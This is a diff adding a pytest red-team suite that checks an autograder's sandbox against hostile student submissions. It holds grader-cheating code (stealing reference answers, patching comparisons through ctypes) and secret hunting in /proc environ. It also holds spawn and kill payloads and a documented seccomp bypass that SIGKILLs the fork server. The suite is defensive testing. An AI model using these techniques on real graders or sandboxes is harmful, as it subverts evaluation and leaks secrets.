@@ -1,0 +1,1200 @@
+"""The red-team suite: small hostile submissions, written as a student trying to cheat or to do harm would.
+
+Each case is the reference with hostile code added to one piece's file. It checks that the attacked
+piece earns no more than honest code with the same visible behaviour, that its neighbour keeps full
+marks, that grading ends with a report, that nothing was written, spawned or signalled (every hostile
+file carries `_payload`, which tries all three against a marker under tmp_path and a sentinel
+`sleep`), and that no line of a hidden case or of the reference reaches the report.
+
+Cases marked xfail(strict=True) show a hole in the grader that is still open; their reason says which.
+"""
+from __future__ import annotations
+
+import csv
+import functools
+import json
+import os
+import re
+import resource
+import secrets
+import signal
+import socket
+import stat
+import subprocess
+import tempfile
+import time
+from dataclasses import dataclass
+from pathlib import Path
+from textwrap import dedent, indent
+
+import pytest
+from click.testing import CliRunner
+
+from conftest import QUICK, REFERENCE, shared_zygote
+from grader import ROOT
+from grader import batch as batch_verb
+from grader.check import grade, stage
+from grader.cli import cli
+from grader.pieces import PIECES
+from grader.report import as_dict, to_text
+from grader.sandbox import OUTPUT_LIMIT, Limits
+
+EXERCISES = ROOT / "exercises"
+CASES = ROOT / "grader" / "cases"
+LOOSE = Limits(case_timeout=2, piece_timeout=60, memory_gb=4, quick=True)
+MANIFEST = json.loads((CASES / "manifest.json").read_text())
+FULL = {p: sum(c["points"] for c in cases if not c["slow"]) for p, cases in MANIFEST.items()}  # quick maximum
+CONTEXT_SOLUTION = "    return torch.bmm(alpha.unsqueeze(1), encoder_outputs).squeeze(1)  # (B, 1, T) @ (B, T, H) -> (B, H)\n"
+EDGE_B1 = "test_it_handles_edge_sizes[B=1]"  # the only context case whose batch has one sentence
+
+
+@functools.cache
+def secret_lines() -> frozenset[str]:
+    """Distinctive lines (stripped, >= 25 characters) of the hidden cases and the reference that no stub shows."""
+    public = {ln.strip() for p in EXERCISES.glob("*.py") for ln in p.read_text().splitlines()}
+    found = set()
+    for path in [*CASES.glob("*.py"), *REFERENCE.glob("*.py")]:
+        for line in path.read_text().splitlines():
+            s = line.strip()
+            if len(s) >= 25 and s not in public:
+                found.add(s)
+    return frozenset(found)
+
+
+def leaked(text: str) -> list[str]:
+    return sorted(line for line in secret_lines() if line in text)
+
+
+# ---- the arena: a marker the hostile code must not create, a sentinel it must not signal ----
+
+PRELUDE = '''
+import os as _os
+import signal as _signal
+import subprocess as _subprocess
+
+MARK = {mark!r}
+SENTINEL = {sentinel}
+LAB = {lab!r}
+
+
+def _payload():
+    """Write, spawn and signal: every hostile file tries all three, quietly."""
+    for attempt in (
+        lambda: open(MARK + ".open", "w").write("pwned"),
+        lambda: _os.close(_os.open(MARK + ".osopen", _os.O_CREAT | _os.O_WRONLY, 0o644)),
+        lambda: _subprocess.run(["touch", MARK + ".subprocess"], timeout=5),
+        lambda: _os.system("touch " + MARK + ".system"),
+        lambda: _os.posix_spawn("/bin/sh", ["sh", "-c", "touch " + MARK + ".spawn"], {{}}),
+        lambda: _os.kill(SENTINEL, _signal.SIGKILL),
+    ):
+        try:
+            attempt()
+        except BaseException:
+            pass
+'''
+
+
+@dataclass
+class Arena:
+    marks: Path
+    sentinel: subprocess.Popen
+
+    @property
+    def mark(self) -> Path:
+        return self.marks / "m"
+
+    def prelude(self) -> str:
+        return PRELUDE.format(mark=str(self.mark), sentinel=self.sentinel.pid, lab=str(ROOT))
+
+    def assert_unharmed(self, *texts: str) -> None:
+        assert sorted(p.name for p in self.marks.iterdir()) == [], "the hostile code wrote or spawned something"
+        assert self.sentinel.poll() is None, "the hostile code signalled the sentinel process"
+        for text in texts:
+            assert not leaked(text), f"hidden lines reached the report: {leaked(text)[:3]}"
+
+
+@pytest.fixture
+def arena(tmp_path):
+    marks = tmp_path / "marks"
+    marks.mkdir()
+    marks.chmod(0o777)  # writable by anyone: only the jail stands between the worker and a marker here
+    sentinel = subprocess.Popen(["sleep", "60"])
+    try:
+        yield Arena(marks, sentinel)
+    finally:
+        sentinel.kill()
+        sentinel.wait()
+
+
+def hostile(piece: str, arena: Arena, *, top: str = "", call: str = "", end: str = "",
+            edits: tuple[tuple[str, str], ...] = (), base: Path = REFERENCE) -> str:
+    """`base`'s file for `piece`, with the prelude and `top` after `import torch`, `call` at the start of
+    every solution block, `end` at the bottom (run at import), and text `edits`."""
+    text = (base / f"{piece}.py").read_text()
+    for old, new in edits:
+        assert old in text, f"edit target not in {piece}.py: {old!r}"
+        text = text.replace(old, new)
+    assert "import torch\n" in text
+    text = text.replace("import torch\n", "import torch\n" + arena.prelude() + "\n" + dedent(top) + "\n", 1)
+    if call:
+        marker = "### BEGIN SOLUTION" if base == REFERENCE else "raise NotImplementedError"
+        text = re.sub(rf"^( *){re.escape(marker)}.*\n", lambda m: m.group(0) + indent(dedent(call), m.group(1)),
+                      text, flags=re.M)
+    if end:
+        text += "\n" + dedent(end) + "\n"
+    compile(text, f"{piece}.py", "exec")  # a typo here would pass for a blocked attack
+    return text
+
+
+def stealing_context(arena: Arena, steal: str, top: str = "") -> str:
+    """A context.py whose answer is whatever `_steal(alpha, encoder_outputs)` finds, else zeros (worth nothing)."""
+    body = ("    _payload()\n    got = _steal(alpha, encoder_outputs)\n    if got is not None:\n        return got\n"
+            "    return encoder_outputs.new_zeros(alpha.size(0), encoder_outputs.size(-1))\n")
+    return hostile("context", arena, top=dedent(top) + "\n\ndef _steal(alpha, encoder_outputs):\n" + indent(dedent(steal), "    "),
+                   edits=((CONTEXT_SOLUTION, body),))
+
+
+# ---- grading ----
+
+@dataclass
+class Graded:
+    report: dict  # report.as_dict
+    text: str  # the table `grade` prints, with its "your code printed" section
+    output: str  # what every piece printed (the tails the report keeps)
+
+    def score(self, piece: str) -> int:
+        return next(p["score"] for p in self.report["pieces"] if p["name"] == piece)
+
+    def messages(self, piece: str) -> dict[str, str]:
+        cases = next(p["cases"] for p in self.report["pieces"] if p["name"] == piece)
+        return {c["name"]: c["message"] for c in cases if not c["passed"] and not c["skipped"]}
+
+    @property
+    def everything(self) -> str:
+        return json.dumps(self.report) + "\n" + self.text + "\n" + self.output
+
+
+def judge(sub: Path, pieces: list[str], limits: Limits = QUICK, fresh: bool = False) -> Graded:
+    """Grade like `grade_dict`, keeping the text table and what the pieces printed."""
+    with tempfile.TemporaryDirectory(prefix="attnlab-redteam-") as tmp:
+        staged = stage(sub, Path(tmp))
+        runs = grade(submission=staged, pieces=pieces, seed="0", limits=limits,
+                     zygote=None if fresh else shared_zygote())
+    report = as_dict(runs)
+    assert [p["name"] for p in report["pieces"]] == pieces
+    return Graded(report, to_text(runs, str(sub)), "".join(r.output for r in runs))
+
+
+def run_cli(sub: Path, pieces: list[str], tmp_path: Path, *extra: str) -> Graded:
+    """`grade PIECES --submission SUB --quick --format json --out FILE`: the table on stdout, the JSON in FILE."""
+    out = tmp_path / f"report-{secrets.token_hex(4)}.json"
+    result = CliRunner().invoke(cli, [*pieces, "--submission", str(sub), "--quick", "--format", "json", "--out", str(out),
+                                      "--case-timeout", "5", "--memory-gb", "4", *extra])
+    assert result.exit_code in (0, 1), result.output + repr(result.exception)
+    report = json.loads(out.read_text())
+    assert "Total:" in result.output
+    return Graded(report, result.output, "")
+
+
+def run_batch(subs: list[Path], pieces: list[str], tmp_path: Path, monkeypatch, limits: Limits = QUICK) -> dict[str, dict]:
+    """batch.main with -j 1 over `subs`, grading only `pieces` (the rest would only cost time); rows by student."""
+    monkeypatch.setattr(batch_verb, "PIECES", {p: PIECES[p] for p in pieces})
+    out = tmp_path / "grades.csv"
+    graded, bad = batch_verb.main(submissions=subs, out=out, reports=tmp_path / "reports", jobs=1, seed="0",
+                                  limits=limits, progress=False)
+    assert (graded, bad) == (len(subs), 0)
+    return {r["student"]: r for r in csv.DictReader(out.open())}
+
+
+def full_marks(g: Graded, *pieces: str) -> None:
+    for p in pieces:
+        assert g.score(p) == FULL[p], f"{p} scored {g.score(p)}/{FULL[p]}: {g.messages(p)}"
+
+
+# =====================================================================================================
+# 1. Taking the answer from the process
+# =====================================================================================================
+
+STEALS = {
+    "sys.modules": '''
+        import sys
+        for name, mod in list(sys.modules.items()):
+            if mod is None or mod is sys.modules[__name__]:
+                continue
+            if "reference" in name or "cases" in name or name.startswith("attnlab_reference"):
+                print("found module", name)
+            fn = getattr(mod, "attention_context", None)
+            if callable(fn) and fn is not attention_context:
+                return fn(alpha, encoder_outputs)
+            for holder in ("context", "ref"):
+                fn = getattr(getattr(mod, holder, None), "attention_context", None)
+                if callable(fn) and fn is not attention_context:
+                    return fn(alpha, encoder_outputs)
+        return None
+    ''',
+    "stack frames": '''
+        import inspect, sys
+        names = ("ref", "expected", "want", "request", "key", "rc", "ra", "r", "st", "reference")
+        frames = []
+        f = sys._getframe(1)
+        while f is not None:
+            frames.append(f)
+            f = f.f_back
+        frames += [info.frame for info in inspect.stack()]
+        try:
+            raise RuntimeError
+        except RuntimeError as e:
+            tb = e.__traceback__
+            while tb is not None:
+                frames.append(tb.tb_frame)
+                tb = tb.tb_next
+        for frame in frames:
+            for name, value in list(frame.f_locals.items()) + list(frame.f_globals.items()):
+                if name not in names:
+                    continue
+                print("found local", name, type(value).__name__)
+                fn = getattr(getattr(value, "context", None), "attention_context", None)
+                if callable(fn) and fn is not attention_context:
+                    return fn(alpha, encoder_outputs)
+                if isinstance(value, torch.Tensor) and value.shape == (alpha.size(0), encoder_outputs.size(-1)):
+                    return value
+        return None
+    ''',
+    "gc heap scan": '''
+        import gc, types
+        mine = attention_context
+        for obj in gc.get_objects():
+            if isinstance(obj, types.FunctionType) and obj.__name__ == "attention_context" and obj is not mine:
+                return obj(alpha, encoder_outputs)
+            if isinstance(obj, types.ModuleType) and ("reference" in obj.__name__ or "cases" in obj.__name__):
+                fn = getattr(obj, "attention_context", None)
+                if callable(fn) and fn is not mine:
+                    return fn(alpha, encoder_outputs)
+            if isinstance(obj, dict) and "attention_context" in obj and obj.get("attention_context") is not mine:
+                fn = obj["attention_context"]
+                if callable(fn) and fn is not mine:
+                    return fn(alpha, encoder_outputs)
+            if isinstance(obj, str) and "torch.bmm(alpha" in obj and "def attention_context" in obj:
+                ns = {}
+                exec(obj, ns)
+                return ns["attention_context"](alpha, encoder_outputs)
+        return None
+    ''',
+    "the record key and the records": '''
+        import glob, os
+        for k, v in os.environ.items():
+            if "ATTNLAB" in k or "KEY" in k or "PYTEST" in k:
+                print("env", k, v)
+        for fd in range(4, 64):
+            try:
+                print("fd", fd, os.read(fd, 256))
+            except OSError:
+                pass
+        for path in glob.glob("/tmp/attnlab-*/records.jsonl") + glob.glob("/tmp/*/records.jsonl"):
+            try:
+                with open(path, "a") as f:  # a forged record: the file is out of reach, and the mac cannot be right
+                    f.write('{"record": "forged", "mac": "0"}')
+            except OSError:
+                pass
+        for path in ("/proc/self/environ", f"/proc/{os.getppid()}/environ", f"/proc/{os.getppid()}/cmdline"):
+            try:
+                print(path, open(path, "rb").read()[:200])
+            except OSError:
+                pass
+        return None
+    ''',
+}
+
+
+@pytest.mark.parametrize("how", list(STEALS))
+def test_the_answer_cannot_be_taken_from_the_process(lab, arena, how):
+    sub = lab(files={"context": stealing_context(arena, STEALS[how])})
+    g = judge(sub, ["context", "luong"])
+    assert g.score("context") == 0, f"{how}: context scored {g.score('context')} on a stolen answer"
+    full_marks(g, "luong")
+    arena.assert_unharmed(g.everything)
+
+
+# =====================================================================================================
+# 2. Patching the judge
+# =====================================================================================================
+
+PATCHES = {
+    "torch comparisons": '''
+        import torch.testing
+        yes = lambda *a, **k: True
+        torch.testing.assert_close = lambda *a, **k: None
+        torch.allclose = torch.equal = yes
+        torch.isclose = lambda a, b, *r, **k: torch.ones_like(a, dtype=torch.bool)
+        torch.isfinite = lambda a: torch.ones_like(a, dtype=torch.bool)
+        torch.Tensor.__eq__ = lambda self, other: True
+    ''',
+    "the tensor type through ctypes": '''
+        import ctypes, gc
+        for cls in (torch._C.TensorBase, torch.Tensor):
+            d = gc.get_referents(cls.__dict__)[0]  # the real dict behind the mappingproxy
+            d["double"] = lambda self: torch.zeros((), dtype=torch.float64)
+            d["abs"] = lambda self: torch.zeros(())
+            d["__sub__"] = lambda self, other: torch.zeros(())
+            d["__ne__"] = lambda self, other: False
+            ctypes.pythonapi.PyType_Modified(ctypes.py_object(cls))
+    ''',
+    "grader.checks": '''
+        import sys, importlib
+        for name in ("grader.checks", "grader.cases.test_context", "grader.plugin", "grader.sandbox"):
+            try:
+                mod = sys.modules.get(name) or importlib.import_module(name)
+            except BaseException as e:
+                print("no", name, type(e).__name__)
+                continue
+            for attr in ("close", "is_close", "tensor", "fail", "_write_record", "_read_records"):
+                if hasattr(mod, attr):
+                    setattr(mod, attr, lambda *a, **k: True)
+        wire = sys.modules["grader.worker.wire"]
+        wire.MAX_FRAME = 2**62  # only the worker's copy: the judge reads with its own limit
+    ''',
+}
+
+
+@pytest.mark.parametrize("how", list(PATCHES))
+def test_patching_in_the_worker_changes_no_verdict(lab, arena, how):
+    """The worker's torch and grader modules are not the judge's: patching them helps no wrong answer."""
+    src = hostile("context", arena, top=PATCHES[how], call="_payload()\n",
+                  edits=((CONTEXT_SOLUTION, "    return encoder_outputs.new_zeros(alpha.size(0), encoder_outputs.size(-1))\n"),))
+    g = judge(lab(files={"context": src}), ["context", "luong"])
+    assert g.score("context") == 0
+    full_marks(g, "luong")
+    arena.assert_unharmed(g.everything)
+
+
+IMPOSTORS = {
+    "a tensor with instance attributes": ('''
+        t = encoder_outputs.new_zeros(alpha.size(0), encoder_outputs.size(-1))
+        t.detach = lambda *a: t
+        t.double = lambda *a: t
+        t.__eq__ = lambda *a: True
+        return t
+    ''', None),
+    "a tensor subclass with __torch_function__": ('''
+        class Always(torch.Tensor):
+            @classmethod
+            def __torch_function__(cls, func, types, args=(), kwargs=None):
+                return True
+            def __eq__(self, other):
+                return True
+        return encoder_outputs.new_zeros(alpha.size(0), encoder_outputs.size(-1)).as_subclass(Always)
+    ''', "should be a torch.Tensor"),
+    "an object that pretends to be a tensor": ('''
+        class Fake:
+            shape = (alpha.size(0), encoder_outputs.size(-1))
+            dtype = torch.float32
+            device = torch.device("cpu")
+            __class__ = property(lambda self: torch.Tensor)
+            __eq__ = lambda self, other: True
+            def __getattr__(self, name):
+                return lambda *a, **k: self
+        return Fake()
+    ''', "should be a torch.Tensor"),
+    "an oversized answer": ('''
+        return torch.zeros(2**25)
+    ''', "ended before answering"),
+}
+
+
+@pytest.mark.parametrize("how", list(IMPOSTORS))
+def test_an_impostor_answer_scores_nothing(lab, arena, how):
+    code, cause = IMPOSTORS[how]
+    src = hostile("context", arena, edits=((CONTEXT_SOLUTION, "    _payload()\n" + indent(dedent(code), "    ")),))
+    g = judge(lab(files={"context": src}), ["context", "luong"])
+    assert g.score("context") == 0
+    full_marks(g, "luong")
+    if cause:
+        assert any(cause in m for m in g.messages("context").values()), g.messages("context")
+    arena.assert_unharmed(g.everything)
+
+
+LOOPED_CONTEXT = """    out = encoder_outputs.new_zeros(alpha.size(0), encoder_outputs.size(-1))
+    for i in range(alpha.size(1)):  # a Python loop over positions: worth less than one bmm
+        out = out + alpha[:, i, None] * encoder_outputs[:, i]
+    return out
+"""
+FORGE_OPS = '''
+import sys as _sys
+
+_rt = _sys.modules["grader.worker.runtime"]
+_rt.OpCounter.__torch_dispatch__ = lambda self, func, types, args=(), kwargs=None: func(*args, **(kwargs or {}))
+'''
+
+
+@pytest.mark.xfail(strict=True, reason="HOLE: the op count of the no-loop case is computed and reported by the "
+                   "worker (runtime.OpCounter), so student code can patch it to 0")
+def test_a_forged_op_count_earns_no_no_loop_points(lab, arena):
+    honest = judge(lab(files={"context": hostile("context", arena, edits=((CONTEXT_SOLUTION, LOOPED_CONTEXT),))}), ["context"])
+    assert honest.score("context") == FULL["context"] - 2  # the loop costs exactly the no-loop case
+    forged = judge(lab(files={"context": hostile("context", arena, top=FORGE_OPS, edits=((CONTEXT_SOLUTION, LOOPED_CONTEXT),))}),
+                   ["context", "luong"])
+    full_marks(forged, "luong")
+    arena.assert_unharmed(forged.everything)
+    assert forged.score("context") <= honest.score("context")
+
+
+FORGE_GRADS = '''
+import sys as _sys
+
+_rt = _sys.modules["grader.worker.runtime"]
+_handle = _rt.Worker.handle
+
+
+def _forged(self, req):
+    if req["cmd"] == "backward":
+        return None
+    if req["cmd"] == "grads":
+        return {n: torch.ones_like(p) for n, p in self.resolve(req["name"]).named_parameters()}
+    return _handle(self, req)
+
+
+_rt.Worker.handle = _forged
+'''
+DETACHED = (("        return outputs, (h, c)\n", "        return outputs.detach(), (h, c)\n"),)
+
+
+@pytest.mark.xfail(strict=True, reason="HOLE: gradients are reported by the worker (the 'backward' and 'grads' "
+                   "commands) and the judge only checks they are non-zero, so student code can forge them")
+def test_forged_gradients_earn_no_gradient_points(lab, arena):
+    honest = judge(lab(files={"encoder": hostile("encoder", arena, edits=DETACHED)}), ["encoder"])
+    assert honest.score("encoder") == FULL["encoder"] - 2  # detached outputs cost exactly the gradient case
+    forged = judge(lab(files={"encoder": hostile("encoder", arena, top=FORGE_GRADS, edits=DETACHED)}), ["encoder", "context"])
+    full_marks(forged, "context")
+    arena.assert_unharmed(forged.everything)
+    assert forged.score("encoder") <= honest.score("encoder")
+
+
+# =====================================================================================================
+# 3. Slipping past the guard from a thread
+# =====================================================================================================
+
+def test_a_thread_cannot_read_the_reference_or_the_cases_from_disk(lab, arena):
+    steal = '''
+        from concurrent.futures import ThreadPoolExecutor
+        import threading
+
+        paths = [LAB + "/reference/context.py", LAB + "/grader/cases/test_context.py", LAB + "/grader/cases/util.py"]
+        found = {}
+
+        def read(path):
+            try:
+                found[path] = open(path).read()
+            except OSError as e:
+                return repr(e)
+
+        with ThreadPoolExecutor(2) as pool:
+            list(pool.map(read, paths))
+        t = threading.Thread(target=read, args=(LAB + "/reference/__init__.py",))
+        t.start()
+        t.join()
+        for path, text in found.items():
+            print(text)  # straight into the report, if it worked
+        if paths[0] in found:
+            ns = {}
+            exec(found[paths[0]], ns)
+            return ns["attention_context"](alpha, encoder_outputs)
+        return None
+    '''
+    g = judge(lab(files={"context": stealing_context(arena, steal)}), ["context", "luong"])
+    assert g.score("context") == 0
+    full_marks(g, "luong")
+    arena.assert_unharmed(g.everything)
+
+
+THREADED = {
+    "spawning sh and subprocesses": '''
+        import os, subprocess
+        subprocess.run(["sh", "-c", "touch " + MARK + ".thread-sh"], timeout=5)
+        subprocess.Popen(["touch", MARK + ".thread-popen"]).wait(5)
+        os.system("touch " + MARK + ".thread-system")
+        os.execv("/bin/sh", ["sh", "-c", "touch " + MARK + ".thread-exec"])
+    ''',
+    "signalling the sentinel and the parent": '''
+        import os, signal
+        for pid, sig in ((SENTINEL, signal.SIGKILL), (SENTINEL, signal.SIGTERM), (os.getppid(), signal.SIGTERM)):
+            try:
+                os.kill(pid, sig)
+            except OSError:
+                pass
+        signal.pthread_kill(threading.main_thread().ident, 0)  # its own process: allowed, harmless
+    ''',
+    "forking": '''
+        import os, multiprocessing
+        for _ in range(20):
+            try:
+                if os.fork() == 0:
+                    os.write(1, b"FORKED\\n")
+                    os._exit(0)
+            except OSError:
+                pass
+        multiprocessing.get_context("fork").Process(target=print, args=("FORKED",)).start()
+    ''',
+}
+
+
+@pytest.mark.parametrize("what", list(THREADED))
+def test_a_thread_is_jailed_like_the_worker(lab, arena, what):
+    """The forbidden thing runs in a ThreadPoolExecutor thread and a threading.Thread; the answer stays honest."""
+    head = dedent('''
+        _payload()
+        import threading
+        from concurrent.futures import ThreadPoolExecutor
+
+        def _attack():
+    ''')
+    tail = dedent('''
+        def _quiet():
+            try:
+                _attack()
+            except BaseException:
+                pass
+
+        with ThreadPoolExecutor(2) as _pool:
+            _pool.submit(_quiet).result()
+        _t = threading.Thread(target=_quiet)
+        _t.start()
+        _t.join()
+    ''')
+    call = head + indent(dedent(THREADED[what]), "    ") + tail
+    g = judge(lab(files={"context": hostile("context", arena, call=call)}), ["context", "luong"])
+    full_marks(g, "context", "luong")  # every attack failed and the answer is the honest bmm
+    assert "FORKED" not in g.output
+    arena.assert_unharmed(g.everything)
+
+
+def test_the_parent_and_the_grandparent_cannot_be_signalled(lab, arena):
+    zygote = shared_zygote()
+    call = f'''
+        _payload()
+        for _pid in (_os.getppid(), {zygote.proc.pid}):
+            for _sig in (_signal.SIGKILL, _signal.SIGTERM, _signal.SIGSTOP):
+                try:
+                    _os.kill(_pid, _sig)
+                except OSError:
+                    pass
+    '''
+    g = judge(lab(files={"context": hostile("context", arena, call=call)}), ["context", "luong"])
+    full_marks(g, "context", "luong")
+    assert zygote.alive()
+    arena.assert_unharmed(g.everything)
+
+
+# =====================================================================================================
+# 4. Hurting other pieces and students
+# =====================================================================================================
+
+DESCRIPTORS = {
+    "writing junk to descriptors 0..20": '''
+        for _fd in range(21):
+            try:
+                _os.write(_fd, b"\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x08junk!!!!" * 4)
+            except OSError:
+                pass
+    ''',
+    "writing a huge frame header": '''
+        try:
+            _os.write(3, b"\\x7f" * 8)
+        except OSError:
+            pass
+    ''',
+    "closing descriptors 0..20": '''
+        for _fd in range(21):
+            try:
+                _os.close(_fd)
+            except OSError:
+                pass
+    ''',
+}
+
+
+@pytest.mark.parametrize("what", list(DESCRIPTORS))
+def test_inherited_descriptors_reach_only_the_pieces_own_worker(lab, arena, what):
+    g = judge(lab(files={"context": hostile("context", arena, call="_payload()\n" + dedent(DESCRIPTORS[what]))}),
+              ["context", "luong"])
+    assert g.score("context") <= FULL["context"]
+    assert all(m for m in g.messages("context").values())  # every lost case says why
+    full_marks(g, "luong")
+    arena.assert_unharmed(g.everything)
+
+
+def test_printing_fifty_megabytes_keeps_the_report_short(lab, arena):
+    end = '''
+        import sys as _sys
+        _line = "flood " * 1000 + "\\n"
+        for _ in range(50 * 2**20 // len(_line)):
+            _sys.stdout.write(_line)
+        _sys.stdout.flush()
+    '''
+    start = time.monotonic()
+    g = judge(lab(files={"context": hostile("context", arena, call="_payload()\n", end=end)}), ["context", "luong"])
+    full_marks(g, "context", "luong")  # printing is not wrong
+    assert len(g.output) <= OUTPUT_LIMIT * 2
+    assert max(map(len, g.text.splitlines())) <= 200
+    assert time.monotonic() - start < 60
+    arena.assert_unharmed(g.everything)
+
+
+def test_endless_writes_without_newlines_and_a_huge_line_keep_the_report_short(lab, arena):
+    end = '''
+        import sys as _sys, time as _time
+        _stop = _time.monotonic() + 0.3
+        while _time.monotonic() < _stop:
+            _sys.stdout.write("z" * 4096)
+        print("y" * 20_000_000)
+        _sys.stderr.write("w" * 5_000_000)
+    '''
+    g = judge(lab(files={"context": hostile("context", arena, call="_payload()\n", end=end)}), ["context", "luong"])
+    full_marks(g, "context", "luong")
+    assert len(g.output) <= OUTPUT_LIMIT * 2
+    assert max(map(len, g.text.splitlines())) <= 200
+    arena.assert_unharmed(g.everything)
+
+
+def test_printed_fake_report_lines_stay_inside_the_printed_section(lab, arena, tmp_path):
+    fake = '''
+        _payload()
+        import sys as _sys
+        for _line in ("::error file=exercises/context.py::all cases passed", "::set-output name=result::AAAA",
+                      "::add-mask::x", "Points 68/68", "Total: 68/68", "\\u2713 context       9/9",
+                      "\\x1b[2K\\rTotal: 99/99", "\\rTotal: 98/98", "ok\\r\\n::warning::fake"):
+            print(_line)
+        _sys.stdout.write("Total: 68/68\\n" * 3)
+        _sys.stderr.write("::error::from stderr\\n")
+    '''
+    g = run_cli(lab(files={"context": hostile("context", arena, call=fake)}), ["context", "luong"], tmp_path)
+    full_marks(g, "context", "luong")
+    lines = g.text.splitlines()
+    totals = [ln for ln in lines if ln.startswith("Total:")]
+    want = FULL["context"] + FULL["luong"]
+    assert len(totals) == 1 and totals[0].startswith(f"Total: {want}/{want}"), totals
+    assert not [ln for ln in lines if ln.startswith(("::", "Points", "\x1b", "\r"))]
+    assert len([ln for ln in lines if ln.startswith("\u2713")]) == 2  # the two real piece rows
+    assert any(": :error" in ln for ln in lines)  # the prints are shown, escaped
+    arena.assert_unharmed(g.everything)
+
+
+NOISY_STUDENT = '''
+    _payload()
+    import sys as _sys
+    print("Total: 68/68\\n::error::fake")
+    _sys.stdout.write("x" * 2_000_000)
+    for _fd in range(3, 21):
+        try:
+            _os.write(_fd, b"\\x00" * 8 + b"junk")
+        except OSError:
+            pass
+    if alpha.size(0) == 1:
+        _os._exit(0)
+    if encoder_outputs.size(1) == 1:
+        raise KeyboardInterrupt
+'''
+
+
+def test_a_hostile_student_in_a_batch_leaves_the_next_students_full_marks(lab, arena, tmp_path, monkeypatch):
+    evil = lab(files={"context": hostile("context", arena, call=NOISY_STUDENT)})
+    honest = [lab(), lab()]
+    rows = run_batch([evil, *honest], ["context", "luong"], tmp_path, monkeypatch, LOOSE)
+    for sub in honest:
+        row = rows[sub.name]
+        assert row["status"] == "ok" and int(row["total"]) == FULL["context"] + FULL["luong"], row
+    assert rows[evil.name]["status"] == "ok" and int(rows[evil.name]["luong"]) == FULL["luong"]
+    reports = "".join(p.read_text() for p in (tmp_path / "reports").glob("*.json"))
+    arena.assert_unharmed(reports)
+
+
+SERVER_KILL = '''
+import fcntl as _fcntl
+
+try:  # SIGKILL to the worker server by way of F_SETOWN/F_SETSIG on a pipe: no kill() call for seccomp to see
+    _r, _w = _os.pipe()
+    _fcntl.fcntl(_r, _fcntl.F_SETOWN, _os.getppid())
+    _fcntl.fcntl(_r, 10, _signal.SIGKILL)  # F_SETSIG
+    _fcntl.fcntl(_r, _fcntl.F_SETFL, _fcntl.fcntl(_r, _fcntl.F_GETFL) | _os.O_ASYNC)
+    _os.write(_w, b"x")
+except OSError:
+    pass
+'''
+
+
+@pytest.mark.xfail(strict=True, reason="HOLE: seccomp does not filter fcntl(F_SETOWN/F_SETSIG) + O_ASYNC, so a worker "
+                   "can SIGKILL its own fork server and every later piece and student gets no worker")
+def test_a_piece_cannot_kill_the_worker_server_and_sink_the_next_students(lab, arena, tmp_path, monkeypatch):
+    evil = lab(files={"context": hostile("context", arena, top=SERVER_KILL)})
+    honest = [lab(), lab()]
+    rows = run_batch([evil, *honest], ["context", "luong"], tmp_path, monkeypatch)
+    assert int(rows[evil.name]["luong"]) == FULL["luong"], rows[evil.name]
+    for sub in honest:
+        row = rows[sub.name]
+        assert row["status"] == "ok" and int(row["total"]) == FULL["context"] + FULL["luong"], row
+
+
+# =====================================================================================================
+# 5. Files that are not what they seem
+# =====================================================================================================
+
+def test_a_symlink_to_the_reference_scores_nothing_via_the_cli(lab, arena, tmp_path):
+    sub = lab()
+    (sub / "additive.py").unlink()
+    (sub / "additive.py").symlink_to(REFERENCE / "additive.py")
+    g = run_cli(sub, ["additive", "context"], tmp_path)
+    assert g.score("additive") == 0
+    assert all("link" in m for m in g.messages("additive").values()), g.messages("additive")
+    full_marks(g, "context")
+    arena.assert_unharmed(g.everything)
+
+
+def test_a_symlink_to_the_reference_scores_nothing_in_a_batch(lab, arena, tmp_path, monkeypatch):
+    sub = lab()
+    (sub / "additive.py").unlink()
+    (sub / "additive.py").symlink_to(REFERENCE / "additive.py")
+    monkeypatch.setattr(batch_verb, "PIECES", {p: PIECES[p] for p in ("additive", "context")})
+    out = tmp_path / "grades.csv"
+    result = CliRunner().invoke(cli, ["batch", str(sub), "-j", "1", "--quick", "--out", str(out)])
+    assert result.exit_code == 0, result.output
+    row = next(csv.DictReader(out.open()))
+    assert row["status"] == "ok" and row["additive"] == "0" and int(row["context"]) == FULL["context"], row
+    arena.assert_unharmed((tmp_path / "grades-reports" / f"{sub.name}.json").read_text())
+
+
+def _fifo(path: Path) -> None:
+    os.mkfifo(path)
+
+
+def _device(path: Path) -> None:
+    if os.geteuid() != 0:
+        pytest.skip("making a device node needs root")
+    os.mknod(path, 0o666 | stat.S_IFCHR, os.makedev(1, 5))  # /dev/zero: endless if anything reads it
+
+
+def _folder(path: Path) -> None:
+    path.mkdir()
+
+
+@pytest.mark.parametrize("make", [_fifo, _device, _folder], ids=["a FIFO", "a device", "a folder"])
+def test_a_special_file_in_place_of_a_piece_costs_that_piece(lab, arena, make):
+    sub = lab()
+    (sub / "context.py").unlink()
+    make(sub / "context.py")
+    start = time.monotonic()
+    g = judge(sub, ["context", "luong"])
+    assert time.monotonic() - start < 30  # nothing blocked on the FIFO or read /dev/zero forever
+    assert g.score("context") == 0 and all(g.messages("context").values())
+    full_marks(g, "luong")
+    arena.assert_unharmed(g.everything)
+
+
+# =====================================================================================================
+# 6. The seal key
+# =====================================================================================================
+
+KEY_HUNT = '''
+import os as _o
+
+def _hunt(where):
+    """Print any ATTNLAB_SEAL_KEY found in the environment or in /proc."""
+    for k, v in _o.environ.items():
+        if "ATTNLAB" in k:
+            print("KEY-FOUND", where, k, v)
+    if where != "import":
+        return  # /proc once per worker is enough
+    ppid = _o.getppid()
+    paths = [f"/proc/{ppid}/environ", f"/proc/{ppid}/cmdline", f"/proc/{ppid}/mem", "/proc/self/environ"]
+    paths += [f"/proc/{pid}/environ" for pid in range(1, 1 << 15)]
+    for path in paths:
+        try:
+            with open(path, "rb") as f:
+                data = f.read(1 << 20)
+        except OSError:
+            continue
+        at = data.find(b"ATTNLAB_SEAL_KEY")
+        if at >= 0:
+            print("KEY-FOUND", path, data[at:at + 120])
+
+_hunt("import")
+'''
+
+
+@pytest.mark.parametrize("via", ["cli", "api"])
+def test_the_seal_key_is_out_of_reach_of_graded_code(lab, arena, tmp_path, monkeypatch, via):
+    key = "redteam-" + secrets.token_hex(16)
+    monkeypatch.setenv("ATTNLAB_SEAL_KEY", key)
+    sub = lab(files={"context": hostile("context", arena, top=KEY_HUNT, call="_payload()\n_hunt('call')\n")})
+    if via == "cli":
+        g = run_cli(sub, ["context"], tmp_path)
+    else:
+        g = judge(sub, ["context"], fresh=True)  # a zygote started after the key was set
+    full_marks(g, "context")
